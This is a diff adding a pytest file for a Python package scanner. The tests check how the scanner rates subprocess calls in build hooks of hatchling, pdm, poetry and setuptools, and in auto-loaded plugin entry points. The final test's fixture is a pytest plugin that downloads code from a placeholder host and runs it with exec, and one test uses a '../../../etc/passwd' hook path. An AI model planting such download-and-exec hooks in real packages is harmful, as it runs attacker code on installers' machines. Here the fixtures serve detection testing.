@@ -1,0 +1,155 @@
+"""Build hooks of other backends and auto-loaded plugins run by themselves (real archives).
+
+hatchling, pdm-backend and poetry-core load files of the sdist while pip builds it, and
+setuptools reads ``[tool.setuptools.cmdclass]``: code there runs at install time, like
+``setup.py``. pytest loads ``pytest11`` plugins and setuptools calls its plugin entry points
+in every build: code there runs without the user calling the package. The same code with
+nothing that loads it (a hatch table in a setuptools project, a flake8 plugin, a wheel) keeps
+the severity of code that runs when called.
+"""
+
+from __future__ import annotations
+
+import pytest
+from scanner_trees import sdist_tree, wheel_tree
+
+from shouldi.results import Severity, Status
+from shouldi.scanners.heuristics import HeuristicsScanner
+
+TOP = "demo-1.0/"
+H, M, L, INFO = Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.INFO
+#: process-spawn (a capability): medium where it runs by itself, info when only called
+SPAWN = "import subprocess\n\ndef {name}(*args, **kwargs):\n    subprocess.run(['make', 'all'])\n"
+CLASS_HOOK = ("import subprocess\n\nclass CustomHook:\n    def initialize(self, version, build_data):\n"
+              "        subprocess.run(['make', 'all'])\n\n    def unrelated(self):\n"
+              "        subprocess.run(['make', 'clean'])\n")
+PROJECT = '[project]\nname = "demo"\nversion = "1.0"\n'
+
+
+def scan(tmp_path, files, wheel=False):
+    tree = (wheel_tree if wheel else sdist_tree)(tmp_path, files)
+    result = HeuristicsScanner().scan(tree)
+    assert result.status is Status.OK, result.reason
+    return result
+
+
+def spawns(result):
+    return {(f.file.removeprefix(TOP), f.line, f.severity) for f in result.findings
+            if f.rule == "process-spawn"}
+
+
+def backend(name: str) -> str:
+    return f'[build-system]\nrequires = ["x"]\nbuild-backend = "{name}"\n\n'
+
+
+@pytest.mark.parametrize("table", [
+    "[tool.hatch.build.hooks.custom]\n",
+    "[tool.hatch.build.targets.wheel.hooks.custom]\n",
+    "[tool.hatch.metadata.hooks.custom]\n",
+])
+def test_hatch_custom_hook_runs_at_build(tmp_path, table):
+    files = {"pyproject.toml": backend("hatchling.build") + PROJECT + table,
+             "hatch_build.py": CLASS_HOOK, "demo/__init__.py": ""}
+    result = scan(tmp_path, files)
+    assert spawns(result) == {("hatch_build.py", 5, M), ("hatch_build.py", 8, INFO)}
+    (spawn,) = [f for f in result.findings if f.line == 5]
+    assert "runs at install time: demo-1.0/hatch_build.py -> hatchling build hook CustomHook" in spawn.message
+    assert [f.message for f in result.findings if f.rule == "build-hook"] == [
+        "a build hook shipped in the sdist runs at install: hatchling loads demo-1.0/hatch_build.py "
+        "while building the sdist"]
+
+
+def test_hatch_hook_path_and_hatch_toml(tmp_path):
+    files = {"pyproject.toml": backend("hatchling.build") + PROJECT,
+             "hatch.toml": '[build.targets.sdist.hooks.custom]\npath = "tools/hooks.py"\n',
+             "tools/hooks.py": CLASS_HOOK, "hatch_build.py": CLASS_HOOK, "demo/__init__.py": ""}
+    assert spawns(scan(tmp_path, files)) == {
+        ("tools/hooks.py", 5, M), ("tools/hooks.py", 8, INFO),
+        ("hatch_build.py", 5, INFO), ("hatch_build.py", 8, INFO)}  # not named: not loaded
+
+
+def test_pdm_build_file_is_loaded_by_pdm_only(tmp_path):
+    hook = (SPAWN.format(name="pdm_build_initialize") + "\n\n" + SPAWN.format(name="helper").split("\n", 2)[2])
+    pdm = {"pyproject.toml": backend("pdm.backend") + PROJECT, "pdm_build.py": hook,
+           "src/demo/__init__.py": ""}
+    assert spawns(scan(tmp_path / "pdm", pdm)) == {("pdm_build.py", 4, M), ("pdm_build.py", 8, INFO)}
+    other = {**pdm, "pyproject.toml": backend("setuptools.build_meta") + PROJECT}
+    assert spawns(scan(tmp_path / "setuptools", other)) == {("pdm_build.py", 4, INFO),
+                                                           ("pdm_build.py", 8, INFO)}
+
+
+@pytest.mark.parametrize("table", ['[tool.poetry.build]\nscript = "build.py"\n', '[tool.poetry]\nbuild = "build.py"\n'])
+def test_poetry_build_script_runs_at_build(tmp_path, table):
+    files = {"pyproject.toml": backend("poetry.core.masonry.api") + table,
+             "build.py": "import os\nos.system('make')\n\n" + SPAWN.format(name="build").split("\n", 2)[2],
+             "demo/__init__.py": ""}
+    assert spawns(scan(tmp_path, files)) == {("build.py", 2, M), ("build.py", 5, M)}
+
+
+def test_pyproject_cmdclass_commands_run_at_build(tmp_path):
+    commands = ("import subprocess\nfrom setuptools.command.install import install\n\n"
+                "class Install(install):\n    def run(self):\n        subprocess.run(['make'])\n\n"
+                "class Upload(install):\n    def run(self):\n        subprocess.run(['twine'])\n")
+    files = {"pyproject.toml": backend("setuptools.build_meta") + PROJECT
+             + '[tool.setuptools.cmdclass]\ninstall = "demo_build.cmds.Install"\n'
+               'upload = "demo_build.cmds.Upload"\n',
+             "demo_build/__init__.py": "", "demo_build/cmds.py": commands, "demo/__init__.py": ""}
+    result = scan(tmp_path, files)
+    assert spawns(result) == {("demo_build/cmds.py", 6, M), ("demo_build/cmds.py", 10, INFO)}
+    (spawn,) = [f for f in result.findings if f.line == 6]
+    assert "[tool.setuptools.cmdclass] install = demo_build.cmds.Install" in spawn.message
+
+
+def test_a_wheel_is_not_built(tmp_path):
+    files = {"hatch_build.py": CLASS_HOOK, "pyproject.toml": backend("hatchling.build")
+             + "[tool.hatch.build.hooks.custom]\n", "demo/__init__.py": ""}
+    result = scan(tmp_path, files, wheel=True)
+    assert not [f for f in result.findings if f.rule == "build-hook"]
+    assert all(f.severity in (L, INFO) for f in result.findings if f.rule == "process-spawn")
+
+
+def test_hook_path_outside_the_tree_is_ignored(tmp_path):
+    files = {"pyproject.toml": backend("hatchling.build") + '[tool.hatch.build.hooks.custom]\n'
+             'path = "../../../etc/passwd"\n', "demo/__init__.py": ""}
+    assert not [f for f in scan(tmp_path, files).findings if f.rule == "build-hook"]
+
+
+PLUGIN = ("import subprocess\n\ndef pytest_configure(config):\n    subprocess.run(['make'])\n\n"
+          "def helper():\n    subprocess.run(['make', 'clean'])\n")
+
+
+@pytest.mark.parametrize(("group", "target", "expected"), [
+    ("pytest11", "demo.plugin", {("demo/plugin.py", 4, M), ("demo/plugin.py", 7, INFO)}),
+    ("setuptools.finalize_distribution_options", "demo.plugin:helper",
+     {("demo/plugin.py", 4, INFO), ("demo/plugin.py", 7, M)}),
+    ("flake8.extension", "demo.plugin:helper", {("demo/plugin.py", 4, INFO), ("demo/plugin.py", 7, INFO)}),
+])
+def test_auto_loaded_plugins_run_by_themselves(tmp_path, group, target, expected):
+    files = {"demo/__init__.py": "", "demo/plugin.py": PLUGIN,
+             "demo-1.0.dist-info/entry_points.txt": f"[{group}]\ndemo = {target}\n"}
+    result = scan(tmp_path, files, wheel=True)
+    assert {(f.file, f.line, f.severity) for f in result.findings if f.rule == "process-spawn"} == expected
+    if M in {s for *_, s in expected}:
+        (found,) = [f for f in result.findings if f.severity is M]
+        assert f"runs when another program loads it as a plugin: {group} entry point" in found.message
+
+
+@pytest.mark.parametrize("declared", [
+    {"pyproject.toml": PROJECT + '[project.entry-points.pytest11]\ndemo = "demo.plugin"\n'},
+    {"setup.cfg": "[options.entry_points]\npytest11 =\n    demo = demo.plugin\n"},
+    {"setup.py": "from setuptools import setup\nsetup(name='demo', entry_points={'pytest11': "
+                 "['demo = demo.plugin']})\n"},
+])
+def test_sdist_declares_plugins_three_ways(tmp_path, declared):
+    files = {"demo/__init__.py": "", "demo/plugin.py": PLUGIN, **declared}
+    assert spawns(scan(tmp_path, files)) == {("demo/plugin.py", 4, M), ("demo/plugin.py", 7, INFO)}
+
+
+def test_evidence_in_a_pytest_plugin_fails(tmp_path):
+    plugin = ("import os, urllib.request\n\ndef pytest_sessionstart(session):\n"
+              "    exec(urllib.request.urlopen('https://example.invalid/p').read())\n")
+    files = {"demo/__init__.py": "", "demo/plugin.py": plugin,
+             "demo-1.0.dist-info/entry_points.txt": "[pytest11]\ndemo = demo.plugin\n"}
+    result = scan(tmp_path, files, wheel=True)
+    assert max(f.severity.rank for f in result.findings) >= H.rank
+    assert any(f.rule == "download-exec" and f.severity.rank >= H.rank for f in result.findings)
